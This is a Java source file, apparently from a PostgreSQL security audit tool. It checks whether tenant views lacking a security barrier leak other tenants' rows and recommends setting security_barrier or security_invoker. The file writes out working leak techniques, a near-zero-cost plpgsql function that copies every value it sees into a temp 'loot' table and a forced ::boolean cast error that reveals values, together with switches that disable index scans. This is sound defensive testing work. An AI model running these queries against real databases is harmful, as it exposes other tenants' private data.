package dev.watertight.database.audit.rules;

import com.google.auto.service.AutoService;
import dev.watertight.core.finding.Severity;
import dev.watertight.database.audit.AttackScript;
import dev.watertight.database.audit.AuditRule;
import dev.watertight.database.audit.Candidate;
import dev.watertight.database.audit.Outcome;
import dev.watertight.database.audit.Subject;
import dev.watertight.database.audit.Trial;
import dev.watertight.database.catalog.Column;
import dev.watertight.database.catalog.Relation;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;

/** A view that asks for the tenant itself, and lets its user's conditions see the rows first. */
@AutoService(AuditRule.class)
public final class ViewWithoutBarrier implements AuditRule {
  private static final int MOST_COLUMNS = 3;

  @Override
  public String name() {
    return "view-without-barrier";
  }

  @Override
  public void audit(Subject subject, Trial trial) {
    Map<Relation, Set<Relation>> tables = new LinkedHashMap<>();
    for (ViewRead read : ViewRead.all(subject)) {
      Relation view = ViewRead.isUsable(subject, read.view()) ? read.view() : read.entry();
      if (!ViewRead.isInvoker(read.view())
          && !ViewRead.isBarrier(view)
          && subject.app().hasAny(view, "SELECT")) {
        read.tenantTable(subject)
            .filter(t -> !Guard.isOpen(subject, t, read.target()))
            .ifPresent(t -> tables.computeIfAbsent(view, k -> new LinkedHashSet<>()).add(t));
      }
    }
    tables.forEach(
        (view, of) -> {
          List<AttackScript> scripts = scripts(subject, view, List.copyOf(of));
          if (!scripts.isEmpty() && hidesRows(subject, trial, view, List.copyOf(of))) {
            Tries.judge(trial, candidate(view, List.copyOf(of)), scripts);
          }
        });
  }

  /** Whether a plain query of the view shows nothing of the victim's. */
  private static boolean hidesRows(
      Subject subject, Trial trial, Relation view, List<Relation> tables) {
    return new ReadAttack(subject, view, tables, List.of())
        .values().stream()
            .map(trial::probe)
            .allMatch(o -> o.map(Outcome::kind).filter(Outcome.Kind.STOPPED::equals).isPresent());
  }

  private static List<AttackScript> scripts(Subject subject, Relation view, List<Relation> tables) {
    List<Column> columns =
        view.columns().stream()
            .filter(c -> subject.app().has(view, c, "SELECT"))
            .sorted(Comparator.comparing(c -> !isText(c)))
            .limit(MOST_COLUMNS)
            .toList();
    Marks marks = Marks.of(subject, tables);
    List<AttackScript> scripts = new ArrayList<>();
    if (subject.app().has(subject.catalog().databaseGrants(), "TEMPORARY")) {
      columns.forEach(c -> scripts.add(byFunction(subject, view, tables, c, marks)));
    }
    columns.stream()
        .filter(ViewWithoutBarrier::isText)
        .forEach(c -> scripts.add(byError(subject, view, tables, c)));
    return scripts;
  }

  private static boolean isText(Column column) {
    return column.type().equals("text") || column.type().startsWith("character");
  }

  /**
   * A condition that costs next to nothing is tried first, and writes down what it is given. An
   * index on the tenant column would keep the victim's rows from it, so none is used.
   */
  private static AttackScript byFunction(
      Subject subject, Relation view, List<Relation> tables, Column column, Marks marks) {
    AttackScript.Builder script =
        subject.attack(
            "asks "
                + view.label()
                + " by a cheap function that writes down each value it is given");
    Absence.ofAttacker(subject, tables).forEach(script::observe);
    return withoutIndexes(script)
        .attack("create temp table loot (seen text)")
        .attack(
            "create function pg_temp.take(value text) returns void language plpgsql as"
                + " $$ begin insert into pg_temp.loot values (value); end $$")
        .attack(
            "create function pg_temp.look(value anyelement) returns boolean language plpgsql"
                + " stable cost 0.0000001 as"
                + " $$ begin perform pg_temp.take(value::text); return true; end $$")
        .attack("select from " + view.sql() + " where pg_temp.look(" + column.sql() + ")")
        .attack("select seen from pg_temp.loot where " + marks.in("seen"))
        .build();
  }

  /** No row of the attacker's is left, so a value that fails is another tenant's. */
  private static AttackScript byError(
      Subject subject, Relation view, List<Relation> tables, Column column) {
    AttackScript.Builder script =
        subject.attack("asks " + view.label() + " by a conversion that fails and names the value");
    Absence.ofAttacker(subject, tables).forEach(script::observe);
    return withoutIndexes(script)
        .attack("select from " + view.sql() + " where " + column.sql() + "::boolean")
        .leaksByRefusal("22P02");
  }

  private static AttackScript.Builder withoutIndexes(AttackScript.Builder script) {
    return script
        .attack("set local enable_indexscan = off")
        .attack("set local enable_indexonlyscan = off")
        .attack("set local enable_bitmapscan = off");
  }

  private static Candidate candidate(Relation view, List<Relation> tables) {
    return Candidate.of(
        view.label(),
        tables.stream().findFirst().map(Relation::label),
        Severity.ERROR,
        "The view `"
            + view.label()
            + "` asks for the tenant itself, but without a barrier PostgreSQL may try its user's"
            + " conditions on other tenants' rows of `"
            + String.join("`, `", tables.stream().map(Relation::label).toList())
            + "` first. Set it: alter view "
            + view.sql()
            + " set (security_barrier = true), or let the policies hold it with security_invoker.");
  }
}
